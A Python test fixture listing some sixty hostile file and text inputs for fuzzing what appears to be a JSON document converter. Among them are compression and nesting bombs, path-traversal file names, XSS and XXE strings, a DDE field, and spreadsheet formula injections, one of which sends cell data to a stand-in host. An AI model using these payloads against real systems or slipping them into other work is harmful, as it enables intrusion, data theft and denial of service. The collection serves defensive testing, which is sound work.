"""Sixty inputs that mean harm, each by name: files, and texts that elsewhere would be markup, formulas or commands."""

from __future__ import annotations

import gzip
import json
from collections.abc import Mapping
from typing import Any

from shared import shipped_house

HOUSE = json.dumps(shipped_house("converter-strings")).encode()


def put(path: str, value: str) -> bytes:
    """The house with a JSON text put in for one value."""
    house: Any = json.loads(HOUSE)
    here = house
    *way, last = path.split("/")
    for step in way:
        here = here[step]
    here[last] = "\0HERE"
    return json.dumps(house).replace('"\\u0000HERE"', value).encode()


FILES: Mapping[str, bytes] = {
    "bomb of blanks.json": b" " * 20_000_001,
    "bomb of brackets.json": b"[" * 3_000_000,
    "bomb of objects.json": b'{"a":' * 200_000,
    "bomb of one key.json": b'{"' + b"k" * 5_000_000 + b'":1}',
    "bomb of numbers.json": b'{"circuits":[' + b"9," * 2_000_000 + b"9]}",
    "bomb in gzip.json": gzip.compress(b"0" * 10_000_000),
    "zip in a zip.json": b"PK\x03\x04" + b"\0" * 100,
    "giant whole number.json": put("service/voltage", "9" * 4000),
    "giant power.json": put("service/voltage", "1e308"),
    "beyond any number.json": put("service/voltage", "1e400"),
    "giant number in a text.json": put("service/voltage", '"1e99999 V"'),
    "giant count.json": put("strings", '[{"id":"S","modules_in_series":1e15}]'),
    "nearly nothing.json": put("service/voltage", "5e-324"),
    "UTF-16 with its mark.json": HOUSE.decode().encode("utf-16"),
    "UTF-32.json": HOUSE.decode().encode("utf-32-le"),
    "UTF-7.json": b"+AHs-" + HOUSE,
    "overlong slash.json": HOUSE.replace(b"invented", b"inv\xc0\xafented", 1),
    "half a pair.json": put("project/name", '"\\udfff"'),
    "../../up and out.json": HOUSE,
    "/etc/absolute.json": HOUSE,
    "C:\\windows\\other.json": HOUSE,
    "..\\..\\backwards.json": HOUSE,
    "turned\u202enosj.exe.json": HOUSE,
    "\x1b[2J\x07bell.json": HOUSE,
    "file it names.json": put("catalogue", '["/etc/passwd", "../../secret.json", "file:///etc/passwd"]'),
}  # fmt: skip
"""Files by the names they have in a zip file."""

TEXTS: Mapping[str, str] = {
    "script": "<script>alert(1)</script>",
    "image that fails": "\"><img src=x onerror=alert(1)>",
    "frame": "<iframe src=//x.invalid></iframe>",
    "vector with a script": "<svg/onload=alert(1)>",
    "end of the title": "</title></head><body onload=alert(1)>",
    "end of a comment": "--><b>bold</b><!--",
    "entity": "&lt;b&gt; &#x3c;b&#62; &amp;",
    "address with a script": "javascript:alert(1)",
    "style that calls home": "<style>@import url(//x.invalid/a.css)</style>",
    "formula": "=1+1",
    "formula with a plus": "+1+1",
    "formula with a minus": "-2+3",
    "formula with an at": "@SUM(A1:A9)",
    "formula after a tab": "\t=1+1",
    "formula after a return": "\r=1+1",
    "formula that calls a program": "=cmd|' /C calc'!A0",
    "formula that calls home": '=HYPERLINK("http://x.invalid/?"&A1,"see")',
    "formula in other brackets": "=IMPORTXML(\"http://x.invalid\",\"//a\")",
    "quote and comma": "a\",\"b\n=1+1,c",
    "end of a text run": "]]></w:t></w:r><w:r><w:t>more",
    "end of an XML declaration": "?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "field of a word processor": "{ DDEAUTO c:\\\\windows\\\\calc.exe }",
    "heading of the PDF's language": "#heading(1)[x]",
    "file in the PDF's language": "#read(\"/etc/passwd\")",
    "marks of the PDF's language": "*bold* _em_ `raw` $x^2$ @ref <label> \\u{41}",
    "template": "{{ 7*7 }} {% raw %} ${7*7}",
    "words of the form": "{authority} {round} {__class__}",
    "percent signs": "%s %n %(name)s %x%x",
    "turned direction": "abc\u202edcba\u202c",
    "isolated direction": "\u2066abc\u2069",
    "zero byte": "a\0b",
    "colours of a terminal": "\x1b[31mred\x1b[0m",
    "bell and backspace": "a\x07\x08b",
    "half a pair": "a\ud800b",
    "no width": "zero\u200bwidth",
}  # fmt: skip
"""Texts, to stand wherever an applicant can write one."""
